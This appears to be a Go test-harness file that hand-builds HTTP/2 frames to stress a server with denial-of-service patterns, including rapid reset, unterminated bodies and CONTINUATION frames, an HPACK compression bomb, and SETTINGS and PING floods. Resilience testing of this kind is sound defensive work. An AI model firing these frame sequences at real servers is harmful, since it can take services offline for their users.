package hostile

import (
	"encoding/binary"
	"strings"
	"testing"
)

// preface begins a connection of HTTP/2, with empty settings (RFC 9113).
const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + "\x00\x00\x00\x04\x00\x00\x00\x00\x00"

// The types of frames, and the flags of a whole request.
const (
	data, headers, reset, settings, pingFrame, continuation = 0, 1, 3, 4, 6, 9
	endStream, endHeaders                                   = 1, 4
)

// frame2 is a frame of HTTP/2.
func frame2(kind, flags byte, stream uint32, payload string) string {
	out := []byte{byte(len(payload) >> 16), byte(len(payload) >> 8), byte(len(payload)), kind, flags}
	return string(binary.BigEndian.AppendUint32(out, stream)) + payload
}

// fields are the compressed header fields of a GET (RFC 7541): :method GET, :scheme https,
// :path / and :authority.
func (to Target) fields() string {
	return "\x82\x87\x84\x41" + string(byte(len(to.Address))) + to.Address
}

// HTTP2 are attacks on a listener of HTTP/2, which to.TLS must negotiate.
func HTTP2(many int) []Attack {
	const requests = 5000 // of one connection
	all := func(many int, frames func(to Target) string) func(testing.TB, Target, string) Release {
		return func(t testing.TB, to Target, _ string) Release {
			t.Helper()
			return to.hold(t, many, preface+frames(to))
		}
	}
	each := func(of func(to Target, stream uint32) string) func(to Target) string {
		return func(to Target) string {
			var text strings.Builder
			for i := range uint32(requests) {
				text.WriteString(of(to, 2*i+1))
			}
			return text.String()
		}
	}
	return []Attack{
		{"silent connections of HTTP/2", all(many, func(Target) string { return "" })},
		{"rapid reset", all(many/10, each(func(to Target, stream uint32) string {
			return frame2(headers, endHeaders|endStream, stream, to.fields()) + frame2(reset, 0, stream, "\x00\x00\x00\x08")
		}))},
		{"requests without readers", all(many/10, each(func(to Target, stream uint32) string {
			return frame2(headers, endHeaders|endStream, stream, to.fields())
		}))},
		{"bodies without an end", all(many/10, func(to Target) string {
			return frame2(headers, endHeaders, 1, to.fields()) + strings.Repeat(frame2(data, 0, 1, strings.Repeat("x", 16<<10)), 100)
		})},
		{"continuations without an end", all(many/10, func(to Target) string {
			return frame2(headers, 0, 1, to.fields()) + strings.Repeat(frame2(continuation, 0, 1, strings.Repeat("\x00\x01a\x01b", 3000)), 100)
		})},
		{"a compression bomb", all(many/10, func(to Target) string {
			// One long field enters the dynamic table; each further byte repeats it.
			field := "\x40\x01a\x7f\xa1\x1e" + strings.Repeat("b", 4000)
			return frame2(headers, endHeaders|endStream, 1, to.fields()+field+strings.Repeat("\xbe", 12_000))
		})},
		{"settings", all(many/10, func(Target) string { return strings.Repeat(frame2(settings, 0, 0, ""), 20_000) })},
		{"pings", all(many/10, func(Target) string { return strings.Repeat(frame2(pingFrame, 0, 0, "12345678"), 20_000) })},
		{"garbage", all(many, func(Target) string { return string(garbage(4000)) })},
	}
}
